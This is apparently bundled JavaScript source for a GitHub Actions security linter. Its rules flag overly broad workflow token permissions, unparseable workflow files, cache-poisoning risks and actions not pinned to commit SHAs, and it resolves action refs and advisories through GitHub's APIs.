  if (events.length === 0) return false;
  return workflow.jobs.some(
    (job) => (
      // a job held to this repository's own pull requests, or to events outsiders cannot cause, is not their way in
      !blocksForks(gatesFor(job)) && !pinnedElsewhere(job, events) && (untrustedCheckouts(job, tracker).some(
        (checkout, _, all) => executionsAfter(job, checkout.step, checkout.path).some((execution) => !runsRestoredBaseFile(job, checkout, all, execution))
      ) || job.steps.some(
        (step) => step.run?.expressions.some((expression) => tracker.expressionTaint(expression, { job, step, action: null })?.level === "arbitrary")
      ))
    )
  );
}
function declaredName(text) {
  const match2 = /^name:[ \t]*(?:"([^"\n]*)"|'([^'\n]*)'|([^#\n]*?))[ \t]*(?:#.*)?$/m.exec(text);
  return match2 ? (match2[1] ?? match2[2] ?? match2[3])?.trim() : void 0;
}
function findCacheWriters(workspace) {
  const out = [];
  const texts = [];
  const all = [];
  let restores = false;
  for (const { path: path14, kind } of listWorkflowFiles(workspace, workspace.isIgnored)) {
    if (kind !== "workflow") continue;
    const read = workspace.readText(path14, MAX_WORKFLOW_BYTES);
    if (!read.ok) continue;
    all.push({ path: path14, text: read.text });
    restores ||= CACHE_TEXT.test(read.text) && PUBLISH_TEXT.test(read.text);
    if (PRIVILEGED_TEXT.test(read.text) && UNTRUSTED_TEXT.test(read.text)) texts.push({ path: path14, text: read.text });
  }
  if (!restores) return out;
  const names = /* @__PURE__ */ new Map();
  const nameOf = (other) => {
    let name = names.get(other.path);
    if (name === void 0) {
      name = declaredName(other.text) ?? other.path.replace(/^.*\//, "");
      names.set(other.path, name);
    }
    return name;
  };
  const build = (path14, text) => {
    const parsed = parseWorkflowText(path14, "workflow", text);
    if (!parsed.ok) return null;
    try {
      return buildWorkflow(Object.assign(parsed.file, { kind: "workflow" }));
    } catch {
      return null;
    }
  };
  for (const { path: path14, text } of texts) {
    const workflow = build(path14, text);
    if (!workflow) continue;
    const upstreamNames = new Set(
      workflow.triggers.filter((trigger) => trigger.event === "workflow_run").flatMap((trigger) => trigger.filters.get("workflows") ?? [])
    );
    const upstreams = upstreamNames.size === 0 ? [] : all.filter((other) => other.path !== path14 && upstreamNames.has(nameOf(other))).flatMap((other) => build(other.path, other.text) ?? []);
    const model = { workflows: [workflow, ...upstreams], actions: [], scripts: /* @__PURE__ */ new Map(), actionsByDir: /* @__PURE__ */ new Map() };
    if (runsUntrustedCode(workflow, model, new TaintTracker(model))) out.push(path14);
  }
  return out;
}
var cacheWritersFact = defineFact("workflow.cache-writers", async (ctx) => known(findCacheWriters(ctx.workspace)));

// src/rules/build/excessive-permissions.ts
var MINIMAL_PERMISSIONS_FIX = "permissions: {}   # then grant each job only what it uses, e.g. `permissions: { contents: read }`";
function isReusableOnly(workflow) {
  return workflow.triggers.length > 0 && workflow.triggers.every((trigger) => trigger.event === "workflow_call");
}
function minimalPermissions(job, needed, indent2 = "") {
  const lines2 = [`${indent2}permissions:`];
  const scopes = /* @__PURE__ */ new Map();
  if (job.steps.some((step) => step.uses?.name === "actions/checkout") || !needed.has("contents")) scopes.set("contents", "read");
  for (const scope of [...needed].sort()) scopes.set(scope, "write");
  if (scopes.size === 0) return `${indent2}permissions: {}`;
  for (const [scope, level] of [...scopes].sort(([a], [b]) => a < b ? -1 : a > b ? 1 : 0)) lines2.push(`${indent2}  ${scope}: ${level}`);
  return lines2.join("\n");
}
function writeScopes(permissions) {
  if (!permissions || permissions.form !== "map") return [];
  return [...permissions.scopes].filter(([, entry2]) => entry2.level === "write").map(([scope]) => scope);
}
function auditWorkflow(workflow, model, results) {
  const privileged = privilegedUntrustedEvents(workflow, model);
  const risky = privileged.length > 0;
  const top = workflow.permissions;
  const at = (node) => nodeLocation(workflow, node);
  const tracker = risky ? trackerFor(model) : null;
  const reachedBy = (jobs) => {
    if (!tracker) return void 0;
    const reached = jobs.map((job) => ({ job, how: outsiderInputIn(job, tracker), gates: gatesFor(job) })).filter((entry2) => entry2.how !== null);
    return reached.find((entry2) => entry2.gates.length === 0) ?? reached[0];
  };
  if (top?.form === "write-all" && top.node) {
    results.push({
      status: "fail",
      severity: risky ? "critical" : "high",
      message: `the workflow grants write-all to the GITHUB_TOKEN${risky ? ` on ${privileged.join(", ")}` : ""}`,
      location: at(top.node),
      fix: MINIMAL_PERMISSIONS_FIX
    });
  }
  for (const job of workflow.jobs) {
    if (job.permissions?.form === "write-all" && job.permissions.node) {
      results.push({
        status: "fail",
        severity: risky ? "critical" : "high",
        message: `job ${job.id} grants write-all to the GITHUB_TOKEN`,
        location: at(job.permissions.node),
        fix: minimalPermissions(job, neededOrEmpty(job), "    ")
      });
    }
  }
  const jobsWithout = workflow.jobs.filter((job) => !job.permissions);
  if (!top && jobsWithout.length > 0 && !isReusableOnly(workflow)) {
    const anchor = workflow.jobsKey ?? workflow.on?.keyNode;
    const reached = reachedBy(jobsWithout);
    const onEvents = risky ? ` on ${privileged.join(", ")}, which outsiders can trigger` : "";
    const lowered = reached && reached.gates.length > 0 ? `; lowered because ${reached.gates.map((gate) => gate.note).join(", ")}` : "";
    const why = !risky ? "" : reached ? ` (job ${reached.job.id}, ${reached.how}${lowered})` : "; no step of these jobs visibly handles their code or text";
    results.push({
      status: "fail",
      severity: reached && reached.gates.length === 0 ? "high" : "medium",
      message: `no permissions: block at the top of the workflow, and job${jobsWithout.length > 1 ? "s" : ""} ${jobsWithout.map((job) => job.id).join(", ")} set${jobsWithout.length > 1 ? "" : "s"} none: the token gets the repository default${onEvents}${why}`,
      ...anchor ? { location: at(anchor) } : {},
      fix: missingFix(workflow, jobsWithout)
    });
  }
  for (const job of workflow.jobs) {
    const own = writeScopes(job.permissions);
    if (own.length === 0) continue;
    const needs = scopeNeeds(job);
    if (!needs.known) continue;
    for (const scope of own) {
      if (needs.scopes.has(scope)) continue;
      const entry2 = job.permissions.scopes.get(scope);
      results.push({
        status: "fail",
        severity: reachedBy([job]) ? "high" : "medium",
        message: `job ${job.id} grants ${scope}: write, but none of its steps needs it`,
        location: at(entry2.keyNode),
        fix: minimalPermissions(job, needs.scopes, "    ")
      });
    }
  }
  const inheriting = workflow.jobs.filter((job) => !job.permissions);
  if (top && inheriting.length > 0) {
    const analyses = inheriting.map((job) => ({ job, needs: scopeNeeds(job) }));
    if (analyses.every((a) => a.needs.known)) {
      for (const scope of writeScopes(top)) {
        const users = analyses.filter((a) => a.needs.known && a.needs.scopes.has(scope)).map((a) => a.job.id);
        const entry2 = top.scopes.get(scope);
        if (users.length === 0) {
          results.push({
            status: "fail",
            severity: reachedBy(inheriting) ? "high" : "medium",
            message: `the workflow grants ${scope}: write to ${inheriting.length === 1 ? `job ${inheriting[0].id}` : `jobs ${inheriting.map((j) => j.id).join(", ")}`}, but no step needs it`,
            location: at(entry2.keyNode),
            fix: inheriting.length === 1 ? minimalPermissions(inheriting[0], analyses[0].needs.scopes) : MINIMAL_PERMISSIONS_FIX
          });
        } else if (users.length < inheriting.length) {
          const others = inheriting.filter((job) => !users.includes(job.id)).map((job) => job.id);
          results.push({
            status: "fail",
            severity: "low",
            message: `the workflow grants ${scope}: write to every job, but only ${users.join(", ")} need${users.length === 1 ? "s" : ""} it (not ${others.join(", ")}): move it to the job level`,
            location: at(entry2.keyNode),
            fix: `permissions: {}   # at the top; then in ${users.join(", ")}: permissions: { ${scope}: write }`
          });
        }
      }
    }
  }
  if (risky) {
    for (const job of workflow.jobs) {
      const permissions = job.permissions ?? top;
      const entry2 = permissions?.form === "map" ? permissions.scopes.get("id-token") : void 0;
      if (!entry2 || entry2.level !== "write") continue;
      const gates = gatesFor(job);
      if (blocksForks(gates)) continue;
      const severity = gates.length > 0 ? "medium" : "high";
      results.push({
        status: "fail",
        severity,
        message: `job ${job.id} can mint OIDC tokens (id-token: write) on ${privileged.join(", ")}, which outsiders can trigger: any code injected there can assume the cloud or registry identities that trust this repository${gates.length > 0 ? `; lowered because ${gates.map((g) => g.note).join(", ")}` : ""}`,
        location: at(entry2.keyNode),
        fix: "Move the job that needs id-token into a workflow triggered by push/release (or behind an environment with reviewers)."
      });
    }
  }
}
function missingFix(workflow, jobsWithout) {
  if (workflow.jobs.length === 1 && jobsWithout.length === 1 && scopeNeeds(jobsWithout[0]).known)
    return minimalPermissions(jobsWithout[0], neededOrEmpty(jobsWithout[0]));
  const lines2 = ["permissions: {}"];
  for (const job of jobsWithout) {
    const needs = scopeNeeds(job);
    if (job.uses) lines2.push(`# job ${job.id} calls a reusable workflow: grant what the called workflow uses`);
    else if (!needs.known) lines2.push(`# job ${job.id}: grant what it uses (${needs.why})`);
    else lines2.push(`# job ${job.id}:`, minimalPermissions(job, needs.scopes, "#   "));
  }
  return lines2.join("\n");
}
function neededOrEmpty(job) {
  const needs = scopeNeeds(job);
  return needs.known ? needs.scopes : /* @__PURE__ */ new Set();
}
var excessivePermissions = defineWorkflowRule({
  meta: {
    id: "excessive-permissions",
    area: "build",
    severity: "medium",
    title: "Workflow token permissions broader than needed",
    rationale: "Without a `permissions:` block the GITHUB_TOKEN gets the repository default, which is read/write on older repositories and organizations; `write-all` grants every scope; a write scope no step uses is only useful to an attacker who compromises a step.",
    remediation: "Add `permissions: {}` (or `contents: read`) at the top of the workflow and grant each job only the scopes it uses.",
    references: ["SSC-49", "OSPS-BR-01", "zizmor: excessive-permissions", "Scorecard: Token-Permissions", "poutine: default_permissions_on_risky_events"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const results = [];
    for (const workflow of model.workflows) auditWorkflow(workflow, model, results);
    return results;
  }
});

// src/rules/build/invalid-workflow.ts
var invalidWorkflow = defineRule({
  meta: {
    id: "invalid-workflow",
    area: "build",
    severity: "high",
    title: "Workflow or action file could not be audited",
    rationale: "A file chaingate cannot parse is a file no rule has looked at; it must not pass silently.",
    remediation: "Fix the YAML error at the reported line (GitHub rejects such workflows too); replace a symbolic link that leads outside the repository (or nowhere) by the file itself; or exclude the path with ignore-paths.",
    references: ["OSPS-BR-01"],
    access: { token: "none" }
  },
  needs: [workflowFilesFact],
  uses: [skippedWorkflowLinksFact],
  defaultOptions: {},
  evaluate(ctx) {
    const files = ctx.need(workflowFilesFact);
    const failures = files.failures.map((failure) => ({
      status: "fail",
      message: `${failure.kind === "workflow" ? "workflow" : "action metadata"} not audited: ${failure.message}`,
      location: { path: failure.path, startLine: failure.line, startColumn: failure.column, endLine: failure.line, endColumn: failure.column }
    }));
    const skipped = ctx.fact(skippedWorkflowLinksFact);
    if (!skipped.known)
      failures.push({
        status: "unknown",
        message: `symbolic links under .github could not be listed, so a workflow behind one may not be audited: ${skipped.reason}`,
        location: { path: ".github", startLine: 1, startColumn: 1, endLine: 1, endColumn: 1 }
      });
    const links = (skipped.known ? skipped.value : []).map((link) => {
      const kind = workflowFileKind(link.path);
      const what2 = kind === "workflow" ? "workflow" : kind === "action" ? "action metadata" : `the workflows under ${link.path}`;
      return {
        status: "fail",
        message: `${what2} not audited: ${link.reason}; chaingate follows symbolic links only to targets inside the repository`,
        location: { path: link.path, startLine: 1, startColumn: 1, endLine: 1, endColumn: 1 }
      };
    });
    return [...failures, ...links];
  }
});

// src/github/facts/action-refs.ts
var REPOS_PER_QUERY = 20;
var CONCURRENCY2 = 8;
var PACKAGES_PER_ADVISORY_QUERY = 100;
var FULL_SHA = /^[0-9a-f]{40}$/i;
function refKey(owner, repo, ref) {
  return `${owner.toLowerCase()}/${repo.toLowerCase()}@${ref}`;
}
function collectActionRefsFromText(values) {
  const seen = /* @__PURE__ */ new Map();
  for (const value of values) {
    const parsed = parseUsesText(value);
    if (parsed.kind !== "remote" || !parsed.ref || parsed.ref.includes("${{")) continue;
    const key2 = refKey(parsed.owner, parsed.repo, parsed.ref);
    if (!seen.has(key2)) seen.set(key2, { owner: parsed.owner, repo: parsed.repo, path: parsed.path ?? "", ref: parsed.ref });
  }
  return [...seen.values()];
}
async function pool(tasks, limit = CONCURRENCY2) {
  const results = new Array(tasks.length);
  let next = 0;
  const worker = async () => {
    while (next < tasks.length) {
      const index = next;
      next += 1;
      results[index] = await tasks[index]();
    }
  };
  await Promise.all(Array.from({ length: Math.min(limit, tasks.length) }, () => worker()));
  return results;
}
function parseVersion(text) {
  const match2 = /^v?(\d+)(?:\.(\d+))?(?:\.(\d+))?$/i.exec(text.trim());
  if (!match2) return void 0;
  return [match2[1], match2[2], match2[3]].filter((part) => part !== void 0).map(Number);
}
function compareVersions(a, b) {
  for (let i = 0; i < 3; i += 1) {
    const diff = (a[i] ?? 0) - (b[i] ?? 0);
    if (diff !== 0) return diff;
  }
  return 0;
}
function mostSpecificVersion(names) {
  let best;
  for (const name of names) {
    const parts = parseVersion(name);
    if (!parts) continue;
    if (!best || parts.length > best.parts.length || parts.length === best.parts.length && compareVersions(parts, best.parts) > 0) best = { name, parts };
  }
  return best?.name;
}
function peel(target2) {
  if (!target2) return void 0;
  if (target2.__typename === "Tag" && target2.target?.oid) return target2.target.oid.toLowerCase();
  return target2.oid?.toLowerCase();
}
var str = (text) => JSON.stringify(text);
function batchQuery(repos) {
  const parts = repos.map(({ owner, repo, refs }, i) => {
    const perRef = refs.map(
      (ref, j) => FULL_SHA.test(ref) ? `o${j}: object(oid: ${str(ref.toLowerCase())}) { __typename oid }` : `b${j}: ref(qualifiedName: ${str(`refs/heads/${ref}`)}) { target { oid } } t${j}: ref(qualifiedName: ${str(`refs/tags/${ref}`)}) { target { __typename oid ... on Tag { target { oid } } } }`
    ).join(" ");
    return `r${i}: repository(owner: ${str(owner)}, name: ${str(repo)}) { nameWithOwner isArchived defaultBranchRef { name target { oid } } tags: refs(refPrefix: "refs/tags/", first: 100, orderBy: {field: TAG_COMMIT_DATE, direction: DESC}) { nodes { name target { __typename oid ... on Tag { target { oid } } } } } heads: refs(refPrefix: "refs/heads/", first: 100) { nodes { name target { oid } } } ${perRef} }`;
  });
  return `query { ${parts.join(" ")} }`;
}
async function runBatch(client, batch) {
  try {
    const data = await client.octokit.graphql(batchQuery(batch));
    return { data, aliasErrors: /* @__PURE__ */ new Map() };
  } catch (error) {
    const failure = classifyApiError(error);
    const partial = error.data;
    const errors = error.errors ?? [];
    const perRepository = errors.length > 0 && errors.every((item) => typeof item.path?.[0] === "string" && /^r\d+$/.test(item.path[0]));
    if (failure.graphqlTypes && !failure.graphqlTypes.includes("RATE_LIMITED") && perRepository && partial && typeof partial === "object") {
      const aliasErrors = /* @__PURE__ */ new Map();
      for (const item of errors) {
        const alias = item.path[0];
        if (item.type === "NOT_FOUND" && item.path.length === 1) continue;
        aliasErrors.set(alias, `GitHub's GraphQL API answered ${item.type ?? "an error"} (${shorten(item.message ?? "")})`);
      }
      return { data: partial, aliasErrors };
    }
    return { data: {}, error: failure.message, aliasErrors: /* @__PURE__ */ new Map() };
  }
}
function describe(error) {
  return classifyApiError(error).message;
}
function resolveFromRepository(use, repository, batchError) {
  return use.refs.map((ref, j) => {
    const isSha = FULL_SHA.test(ref);
    const base = {
      owner: use.owner,
      repo: use.repo,
      ref,
      key: refKey(use.owner, use.repo, ref),
      status: "resolved",
      isSha,
      isBranch: false,
      isTag: false
    };
    if (batchError) return { ...base, status: "error", error: batchError, ...isSha ? { reachable: "unknown" } : {} };
    if (repository === void 0 || repository !== null && typeof repository !== "object") {
      return {
        ...base,
        status: "error",
        error: `GitHub's GraphQL answer has no entry for ${use.owner}/${use.repo}`,
        ...isSha ? { reachable: "unknown" } : {}
      };
    }
    if (repository === null) return { ...base, status: "repo-not-found", ...isSha ? { reachable: "not-found" } : {} };
    const tags = (repository.tags?.nodes ?? []).flatMap((node) => node?.name ? [{ name: node.name, sha: peel(node.target) }] : []);
    const heads = (repository.heads?.nodes ?? []).flatMap((node) => node?.name ? [{ name: node.name, sha: peel(node.target) }] : []);
    const defaultBranch = repository.defaultBranchRef?.name;
    const ofRepository = {
      ...defaultBranch ? { defaultBranch } : {},
      ...typeof repository.isArchived === "boolean" ? { isArchived: repository.isArchived } : {}
    };
    const versionAt = (sha2, preferred) => {
      if (!sha2) return void 0;
      const names = tags.filter((tag2) => tag2.sha === sha2).map((tag2) => tag2.name);
      return mostSpecificVersion(preferred ? [...names, preferred] : names);
    };
    if (isSha) {
      const sha2 = ref.toLowerCase();
      const object = repository[`o${j}`];
      const version2 = versionAt(sha2);
      const tagCommits = {};
      for (const tag2 of tags) if (tag2.sha) tagCommits[tag2.name] = tag2.sha;
      const resolution = { ...base, ...ofRepository, sha: sha2, ...version2 ? { version: version2 } : {}, tagCommits };
      if (!object || object.__typename !== "Commit") return { ...resolution, status: "ref-not-found", reachable: "not-found" };
      if (tags.some((tag2) => tag2.sha === sha2)) return { ...resolution, reachable: "tag" };
      if (heads.some((head) => head.sha === sha2) || peel(repository.defaultBranchRef?.target) === sha2) return { ...resolution, reachable: "branch-head" };
      return { ...resolution, reachable: "unknown" };
    }
    const branch = repository[`b${j}`];
    const tag = repository[`t${j}`];
    const tagSha = peel(tag?.target);
    const branchSha = peel(branch?.target);
    const sha = tagSha ?? branchSha;
    if (!sha) return { ...base, ...ofRepository, status: "ref-not-found" };
    const version = tagSha ? versionAt(tagSha, parseVersion(ref) ? ref : void 0) : void 0;
    return { ...base, ...ofRepository, isBranch: Boolean(branch), isTag: Boolean(tag), sha, ...version ? { version } : {} };
  });
}
async function settleReachability(client, resolution) {
  if (!resolution.defaultBranch || !resolution.sha)
    return { ...resolution, reachable: "unknown", error: "the repository has no default branch to compare with" };
  try {
    const response = await client.octokit.rest.repos.compareCommitsWithBasehead({
      owner: resolution.owner,
      repo: resolution.repo,
      basehead: `${resolution.defaultBranch}...${resolution.sha}`,
      per_page: 1
    });
    const status = response.data.status;
    return { ...resolution, reachable: status === "behind" || status === "identical" ? "default-branch" : "unreachable" };
  } catch (error) {
    if (isApiError(error) && error.status === 404) return { ...resolution, reachable: "not-found" };
    return { ...resolution, reachable: "unknown", error: describe(error) };
  }
}
async function fetchAdvisories(client, packages) {
  if (packages.length === 0) return known([]);
  const chunks = [];
  for (let i = 0; i < packages.length; i += PACKAGES_PER_ADVISORY_QUERY) chunks.push(packages.slice(i, i + PACKAGES_PER_ADVISORY_QUERY));
  try {
    const pages = await pool(
      chunks.map((chunk) => async () => (await listAll(client, "GET /advisories", { ecosystem: "actions", affects: chunk.join(",") })).items)
    );
    const byId = /* @__PURE__ */ new Map();
    for (const advisory of pages.flat()) {
      byId.set(advisory.ghsa_id, {
        ghsaId: advisory.ghsa_id,
        cveId: advisory.cve_id,
        summary: advisory.summary,
        severity: advisory.severity,
        htmlUrl: advisory.html_url,
        withdrawn: Boolean(advisory.withdrawn_at),
        vulnerabilities: (advisory.vulnerabilities ?? []).flatMap(
          (vulnerability) => vulnerability.package?.name && vulnerability.package.ecosystem === "actions" ? [{ package: vulnerability.package.name, range: vulnerability.vulnerable_version_range, firstPatched: vulnerability.first_patched_version }] : []
        )
      });
    }
    return known([...byId.values()]);
  } catch (error) {
    return factFromApiError(error, { what: "the GitHub Advisory Database (GET /advisories)", permission: "none (public data); on GHES, GitHub Connect" });
  }
}
async function resolveActionRefs(client, uses) {
  const byRepo = /* @__PURE__ */ new Map();
  const packages = /* @__PURE__ */ new Set();
  for (const use of uses) {
    const repoKey = `${use.owner.toLowerCase()}/${use.repo.toLowerCase()}`;
    const entry2 = byRepo.get(repoKey) ?? { owner: use.owner, repo: use.repo, refs: [] };
    if (!entry2.refs.includes(use.ref)) entry2.refs.push(use.ref);
    byRepo.set(repoKey, entry2);
    packages.add(`${use.owner}/${use.repo}`);
    if (use.path) packages.add(`${use.owner}/${use.repo}/${use.path}`);
  }
  const repos = [...byRepo.values()];
  const batches = [];
  for (let i = 0; i < repos.length; i += REPOS_PER_QUERY) batches.push(repos.slice(i, i + REPOS_PER_QUERY));
  const advisoriesPromise = fetchAdvisories(client, [...packages].sort());
  const resolved = (await pool(
    batches.map((batch) => async () => {
      const { data, error, aliasErrors } = await runBatch(client, batch);
      return batch.flatMap((use, i) => resolveFromRepository(use, data[`r${i}`], error ?? aliasErrors.get(`r${i}`)));
    })
  )).flat();
  const settled = await pool(
    resolved.map(
      (resolution) => async () => resolution.isSha && resolution.status === "resolved" && resolution.reachable === "unknown" ? settleReachability(client, resolution) : resolution
    )
  );
  const refs = {};
  for (const resolution of settled) refs[resolution.key] = resolution;
  return { refs, advisories: await advisoriesPromise };
}
var actionRefsFact = defineFact("github.action-refs", async (ctx) => {
  const prescan = await ctx.get(workflowPrescanFact);
  if (!prescan.known) return prescan;
  const uses = collectActionRefsFromText(prescan.value.files.flatMap((file) => file.remoteUses));
  if (uses.length === 0) return known({ refs: {}, advisories: known([]) });
  if (!ctx.github) {
    return unknownFact(
      "no-token",
      `${uses.length} action reference${uses.length === 1 ? "" : "s"} not resolved: no GitHub token (offline run)`,
      "Contents: read (public action repositories need no permission)"
    );
  }
  const resolved = await resolveActionRefs(ctx.github, uses);
  const gaps = Object.values(resolved.refs).flatMap(
    (resolution) => resolution.status === "error" || resolution.isSha && resolution.reachable === "unknown" ? [{ subject: `${resolution.owner}/${resolution.repo}@${resolution.ref}`, reason: resolution.error ?? "not resolved" }] : []
  );
  return known(resolved, gaps);
});
var sitesOf = new ObjectMemo();
function resolvedSites(ctx) {
  return { sites: usesSites(ctx.need(workflowModelFact)), refs: ctx.need(actionRefsFact) };
}
function usesSites(model) {
  let sites = sitesOf.get(model);
  if (!sites) {
    sites = [];
    const add = (doc, uses, level) => {
      if (!uses || uses.kind !== "remote" || !uses.ref || uses.ref.includes("${{")) return;
      sites.push({
        doc,
        file: doc.file,
        node: uses.node,
        value: uses.raw,
        owner: uses.owner,
        repo: uses.repo,
        path: uses.path ?? "",
        ref: uses.ref,
        key: refKey(uses.owner, uses.repo, uses.ref),
        level
      });
    };
    for (const workflow of model.workflows) {
      for (const job of workflow.jobs) {
        add(workflow, job.uses, "job");
        for (const step of job.steps) add(workflow, step.uses, "step");
      }
    }
    for (const action of model.actions) for (const step of action.runs?.steps ?? []) add(action, step.uses, "step");
    sitesOf.set(model, sites);
  }
  return sites;
}

// src/rules/build/unpinned-uses.ts
var GITHUB_OWNED = new Set(GITHUB_ACTION_OWNERS.map((entry2) => entry2.owner));
var TAG_REQUIRED = TAG_PINNED_WORKFLOWS.map((entry2) => ({ glob: entry2.action, prefix: literalPrefix(entry2.action).toLowerCase(), ref: entry2.ref }));
function literalPrefix(glob) {
  const special = glob.search(/[*?[\]{}()!+@\\]/);
  return special < 0 ? glob : glob.slice(0, special);
}
function tagRequired(name, ref, options) {
  return TAG_REQUIRED.some(
    (entry2) => (
      // The prefix test first: most calls are not to these workflows, and minimatch then stays unloaded.
      name.toLowerCase().startsWith(entry2.prefix) && globLibrary().minimatch(name, entry2.glob, { nocase: true }) && entry2.ref.test(ref) && !matchingGlobs(name, options).some(([glob]) => specificity(glob) >= specificity(entry2.glob))
    )
  );
}
function specificity(glob) {
  return glob.replace(/[*?[\]{}!]/g, "").length * 10 - (glob.match(/\*/g)?.length ?? 0);
}
function matchingGlobs(name, options) {
  const table = [
    ...Object.entries(options.policy ?? {}),
    ...(options["ref-pin-allowed"] ?? []).map((glob) => [glob, "ref-pin"])
  ];
  if (table.length === 0) return [];
  const parts = name.split("/");
  const { minimatch } = globLibrary();
  const matches = (glob) => glob.includes("/") ? minimatch(name, glob, { nocase: true }) || minimatch(parts.slice(0, 2).join("/"), glob, { nocase: true }) : minimatch(parts[0] ?? "", glob, { nocase: true });
  return table.filter(([glob]) => matches(glob));
}
function policyFor(name, options) {
  const candidates = matchingGlobs(name, options);
  if (candidates.length === 0) return "hash-pin";
  candidates.sort((a, b) => specificity(b[0]) - specificity(a[0]));
  return candidates[0][1];
}
function fixFor(refs, owner, repo, path14, ref) {
  const target2 = `${owner}/${repo}${path14 ? `/${path14}` : ""}`;
  const resolution = ref ? refs?.refs[refKey(owner, repo, ref)] : void 0;
  if (resolution?.sha && resolution.status === "resolved") return `uses: ${target2}@${resolution.sha} # ${resolution.version ?? ref}`;
  return `uses: ${target2}@<40-hex commit SHA of ${ref || "the release"}>${ref ? ` # ${ref}` : ""}`;
}
function checkedOutActions(doc, steps, options) {
  const results = [];
  steps.forEach((step, position) => {
    if (!step.uses || !usesAction(step, "actions/checkout")) return;
    const repository = input(step, "repository")?.value.trim();
    if (!repository || repository.includes("${{") || !/^[\w.-]+\/[\w.-]+$/.test(repository)) return;
    const ref = input(step, "ref");
    const refText = ref?.value.trim() ?? "";
    if (refText.includes("${{") || FULL_SHA.test(refText)) return;
    const folderOf = (checkout) => (input(checkout, "path")?.value ?? "").trim().replace(/^\.\/?/, "").replace(/\/+$/, "");
    const folder = folderOf(step);
    const later = steps.slice(position + 1);
    const replaced = later.findIndex((next) => next.uses !== void 0 && usesAction(next, "actions/checkout") && folderOf(next) === folder);
    const users = (replaced === -1 ? later : later.slice(0, replaced)).filter((candidate) => {
      const uses = candidate.uses;
      if (uses?.kind !== "local" || uses.selfRepository) return false;
      const local = uses.path ?? "";
      return folder === "" || local === folder || local.startsWith(`${folder}/`);
    });
    if (users.length === 0) return;
    const policy = policyFor(repository, options);
    if (policy === "any" || policy === "ref-pin" && refText !== "") return;
    const actions = users.map((later2) => later2.uses.raw.trim()).join(", ");
    results.push({
      status: "fail",
      message: refText === "" ? `local action ${actions} is checked out from ${repository} at its default branch, not a commit SHA` : `local action ${actions} is checked out from ${repository} at "${refText}", a mutable ref, not a commit SHA`,
      location: nodeLocation(doc, ref ? ref.node : step.uses.node),
      fix: `ref: <40-hex commit SHA of ${refText || "the default branch"}>${refText ? ` # ${refText}` : ""}`
    });
  });
  return results;
}
var unpinnedUses = defineWorkflowRule({
  meta: {
    id: "unpinned-uses",
    area: "build",
    severity: "high",
    title: "Action or reusable workflow not pinned to a commit SHA",
    rationale: "Tags and branches are mutable: whoever controls the action repository (or steals its credentials, as in the tj-actions/changed-files compromise) can change the code your workflow runs. A full commit SHA cannot be moved.",
    remediation: "Pin each `uses:` to the full 40-character commit SHA of the release, with the version in a comment (`uses: actions/checkout@<sha> # v4.2.2`), and let Dependabot or Renovate update it. Run chaingate with a token to get the SHA in the fix.",
    references: ["SSC-45", "SLSA Build L3 (hermetic inputs)", "OSPS-BR-05.01", "zizmor: unpinned-uses", "Scorecard: Pinned-Dependencies"],
    access: { token: "none", note: "with a token, fixes name the resolved SHA and version" }
  },
  uses: [actionRefsFact],
  // The resolutions only fill in fix hints (a placeholder when a ref was not resolved).
  gapsHandled: [actionRefsFact],
  defaultOptions: { "ref-pin-allowed": [] },
  strictOptions: { "ref-pin-allowed": [] },
  optionsSchema: {
    type: "object",
    properties: {
      policy: {
        type: "object",
        additionalProperties: { enum: ["hash-pin", "ref-pin", "any"] },
        description: "owner/repo[/path] glob -> hash-pin | ref-pin | any; the most specific glob wins"
      },
      "ref-pin-allowed": {
        type: "array",
        items: { type: "string" },
        description: "owner/repo globs allowed to use a tag or branch (same as policy: { glob: ref-pin })"
      }
    }
  },
  model(model, ctx) {
    const refsFact = ctx.fact(actionRefsFact);
    const refs = refsFact.known ? refsFact.value : void 0;
    const results = [];
    const audit = (doc, jobUses, steps) => {
      const sites = [
        ...jobUses ? [{ uses: jobUses, what: "reusable workflow" }] : [],
        ...steps.flatMap((step) => step.uses ? [{ uses: step.uses, what: "action" }] : [])
      ];
      results.push(...checkedOutActions(doc, steps, ctx.options));
      for (const { uses, what: what2 } of sites) {
        const target2 = remoteTarget(uses);
        if (!target2) continue;
        const { owner, repo, path: path14, ref } = target2;
        const name = `${owner}/${repo}${path14 ? `/${path14}` : ""}`;
        const policy = policyFor(name, ctx.options);
        if (policy === "any") continue;
        if (what2 === "reusable workflow" && tagRequired(name, ref, ctx.options)) continue;
        if (ref !== "" && (policy === "ref-pin" || FULL_SHA.test(ref))) continue;
        const resolution = ref && refs ? refs.refs[refKey(owner, repo, ref)] : void 0;
        const kind = resolution?.status === "resolved" ? resolution.isTag ? resolution.isBranch ? "a tag and a branch" : "a tag" : resolution.isBranch ? "a branch" : "a ref" : "a mutable ref";
        const severity = GITHUB_OWNED.has(owner.toLowerCase()) && ref !== "" && !resolution?.isBranch ? "medium" : void 0;
        results.push({
          status: "fail",
          ...severity ? { severity } : {},
          message: ref === "" ? `${what2} ${name} is used without any ref` : `${what2} ${name} is pinned to "${ref}", ${kind}${kind === "a mutable ref" ? "" : " (mutable)"}, not a commit SHA`,
          location: nodeLocation(doc, uses.node),
          fix: fixFor(refs, owner, repo, path14, ref)
        });
      }
    };
    for (const workflow of model.workflows) for (const job of workflow.jobs) audit(workflow, job.uses, job.steps);
    for (const action of model.actions) audit(action, void 0, action.runs?.steps ?? []);
    return results;
  }
});
function remoteTarget(uses) {
  if (uses.kind === "remote") return { owner: uses.owner, repo: uses.repo, path: uses.path ?? "", ref: uses.ref ?? "" };
  const value = uses.raw.trim().replace(/@$/, "");
  if (uses.kind !== "invalid" || value.includes("${{") || value.startsWith(".") || value.includes("@")) return null;
  const parts = value.split("/");
  if (parts.length < 2 || !parts[0] || !parts[1]) return null;
  return { owner: parts[0], repo: parts[1], path: parts.slice(2).join("/"), ref: "" };
}

// src/github/facts/actions-settings.ts
var ADMIN = "Administration: read";
function target(ctx, _what) {
  if (!ctx.target) return noTarget();
  return known({ owner: ctx.target.owner, repo: ctx.target.repo, client: ctx.elevated ?? ctx.github });
}
var actionsWorkflowPermissionsFact = defineFact("github.actions-workflow-permissions", async (ctx) => {
  const what2 = "the default GITHUB_TOKEN permissions (GET /repos/{owner}/{repo}/actions/permissions/workflow)";
  const t = target(ctx, what2);
  if (!t.known) return t;
  const { owner, repo, client } = t.value;
  return apiFact(client, async (c) => (await c.octokit.rest.actions.getGithubActionsDefaultWorkflowPermissionsRepository({ owner, repo })).data, {
    what: what2,
    permission: ADMIN
  });
});
var actionsPermissionsFact = defineFact("github.actions-permissions", async (ctx) => {
